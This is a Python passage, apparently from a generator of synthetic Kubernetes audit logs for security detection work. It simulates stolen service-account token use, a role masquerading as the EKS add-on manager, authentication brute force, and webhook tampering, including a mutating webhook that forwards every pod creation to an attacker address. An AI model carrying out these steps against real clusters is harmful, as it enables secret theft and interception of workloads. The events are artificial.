            for p in rng.sample(mine, min(len(mine), 2)):
                r.req("get", "secrets", p.workload.ns, p.workload.secrets[0])
            for ns, name in rng.sample(self.c.secret_inventory(), rng.randint(3, 8)):
                r.req("get", "secrets", ns, name, gap=(0.5, 4))
            if node.pods:
                p = rng.choice(node.pods)
                r.req("create", "serviceaccounts", p.workload.ns, p.workload.sa, "token",
                      annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={self.em.uid()}"})
            return
        if variant == "kube_system_sa":
            wl = rng.choice([self.c.wl["aws-node"], self.c.wl["ebs-csi-controller"], self.c.wl["coredns"]])
            pod = wl.pods[0]
            a = pod.actor.via([ip], rng.choice((ATTACK_KUBECTL, "curl/8.5.0")))
            s.description = f"token of {a.username} (pod {pod.name}) used from {ip}"
            s.user, s.source_ip = a.username, ip
            r = Run(self.em, rng, a, t0, s)
            r.discovery()
            r.look_around()
            r.req("list", "nodes", query="limit=500")
            r.req("list", "pods", query="limit=500")
            r.req("list", "secrets", "kube-system", query="limit=500")
            r.req("list", "secrets", query="limit=500")
            return
        extra = {"arn": [f"arn:aws:sts::{''.join(rng.choice('0123456789') for _ in range(12))}:assumed-role/eks-maint/addon"],
                 "canonicalArn": ["arn:aws:iam::000000000000:role/eks-maint"], "sessionName": ["addon"]}
        a = self.c.system_actor("eks:addon-manager", ATTACK_KUBECTL, user_binding("eks:addon-manager"), ip, extra)
        s.description = (f"a role mapped to the username eks:addon-manager (masquerading as the EKS add-on manager) "
                         f"acts from non-AWS address {ip}")
        s.user, s.source_ip = a.username, ip
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("list", "secrets", "kube-system", query="limit=500")
        r.req("list", "daemonsets", "kube-system", group="apps", query="limit=500")
        r.req("get", "configmaps", "kube-system", "aws-auth")
        r.req("list", "secrets", query="limit=500")

    def _auth_brute_force(self, rng, t0, s):
        ip, ua = vps_ip(rng), rng.choice(("python-requests/2.32.3", "Go-http-client/1.1", "kube-hunter/0.6.8"))
        n = rng.randint(80, 600)
        s.user, s.source_ip = None, ip
        r = Run(self.em, rng, None, t0, s)
        anon = Actor("system:anonymous", ANONYMOUS, [ip], ua)
        for path in ("/api", "/api/v1/namespaces", "/version"):
            r.actor = anon
            if path == "/version":
                r.req("get", uri=path, code=200, reason=PUBLIC_INFO)
            elif path == "/api":
                r.req("get", uri=path, code=403)
            else:
                r.req("list", "namespaces", uri=path, code=403)
        targets = [("list", "secrets", "kube-system", ""), ("list", "secrets", "", ""), ("list", "pods", "", ""),
                   ("list", "namespaces", "", ""), ("list", "deployments", "", "apps"), ("list", "pods", "default", ""),
                   ("get", "", "", ""), ("get", "", "", "")]
        per_req = rng.uniform(0.05, 1.0)
        for _ in range(n):
            verb, res, ns, group = rng.choice(targets)
            r.wait(0, per_req)
            uri = None if res else rng.choice(("/api", "/apis", "/api/v1"))
            s.audit_ids.append(self.em.unauthenticated(r.t, [ip], ua, verb, res, ns, group=group, uri=uri))
        s.description = (f"{n} requests with invalid bearer tokens (HTTP 401) from {ip} in {(r.t - t0) / MINUTE:.1f} "
                         f"minutes, after a few anonymous probes")

    def _webhook_tampering(self, rng, t0, s):
        who = rng.random()
        if who < 0.35:
            pod = self.c.wl["argocd-application-controller"].pods[0]
            a = pod.actor
        elif who < 0.6:
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=True)
            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("list", "mutatingwebhookconfigurations", group="admissionregistration.k8s.io", query="limit=500")
        if rng.random() < 0.6:
            name = rng.choice(("pod-policy.example.io", "istio-sidecar-injector-v2", "vpc-resource-mutating-webhook-ext"))
            exfil = vps_ip(rng)
            body = o.webhook_config("MutatingWebhookConfiguration", name, f"mutate.{name}", {"url": f"https://{exfil}:8443/mutate"},
                                    "Ignore", ["pods"], ["CREATE", "UPDATE"], {})
            r.req("create", "mutatingwebhookconfigurations", group="admissionregistration.k8s.io", req=body,
                  resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)), gap=(5, 60))
            s.description = (f"{a.username} from {a.ips[-1]} registers mutating webhook {name} sending every pod "
                             f"CREATE to https://{exfil}:8443")
        else:
            patch = {"webhooks": [{"name": "webhook.cert-manager.io", "failurePolicy": "Ignore", "rules": [],
                                   "namespaceSelector": {"matchLabels": {"never": "match"}}}]}
            r.req("patch", "validatingwebhookconfigurations", name="cert-manager-webhook", group="admissionregistration.k8s.io",
                  req=patch, resp=patch, gap=(5, 60))
            s.description = (f"{a.username} from {a.ips[-1]} neuters validating webhook cert-manager-webhook "
                             "(failurePolicy Ignore, no rules)")
